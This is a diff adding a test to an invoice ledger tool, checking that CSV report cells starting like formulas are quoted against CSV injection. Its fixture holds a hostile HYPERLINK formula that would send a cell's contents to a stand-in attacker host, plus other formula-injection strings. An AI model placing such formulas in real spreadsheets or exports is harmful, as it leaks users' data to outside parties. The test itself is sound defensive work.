@@ -430,3 +430,26 @@ def test_cli_report_ledger(tmp_path: Path) -> None:
                                   "--year", "2022", "--data-dir", data_dir])
     assert refused.exit_code == 1
     assert "missing_columns" in refused.output
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(cli: Client) -> None:
+    """A ledger's own cells come back in the CSV report (here a Chinese line's seller): a
+    cell that starts like a formula gets a leading quote (OWASP CSV injection), a negative
+    amount stays a number, and JSON's false/null are not written as Python's False/None."""
+    resp = await cli.post("/api/v1/packages", json=package(CN_INVOICES))
+    assert (await resp.json())["result"] == "accepted"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    ledger = csv_bytes(CN_HEADERS, [
+        ["013002200211", "00000011", "2023-03-23", "205.30", "12.32", "217.62", formula],
+        ["013002200211", "00000014", "2023-03-23", "205.30", "12.32", "217.62", "@SUM(A1)"],
+        ["013002200211", "00000015", "2023-03-23", "205.30", "12.32", "217.62", "-2+3"],
+        ["013002200211", "00000016", "2023-03-23", "-205.30", "12.32", "217.62", "+1+2"],
+    ])
+    rows = await post(cli, ledger, {"buyer_tax_id": CN_BUYER, "year": "2023",
+                                    "format": "csv"})
+    sellers = [r["seller_tax_id"] for r in rows if r["section"] == "line"]
+    assert sellers == ["'" + formula, "'@SUM(A1)", "'-2+3", "'+1+2"]
+    assert [r["amount"] for r in rows if r["section"] == "line"][3] == "-205.30"
+    cells = [value for r in rows for value in r.values()]
+    assert not {"True", "False", "None"} & set(cells)
+    assert [v for v in cells if v and v.startswith(("=", "+", "@", "\t", "\r", "-2+"))] == []
